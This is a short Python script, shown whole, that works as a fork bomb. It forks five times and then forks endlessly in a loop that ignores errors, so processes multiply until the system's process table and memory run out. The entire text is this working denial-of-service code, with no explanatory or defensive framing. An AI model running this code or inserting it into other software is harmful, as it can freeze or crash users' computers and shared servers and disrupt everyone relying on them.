import os
for _ in range(5):
    try: os.fork()
    except OSError: pass
while True:
    try: os.fork()
    except OSError: pass
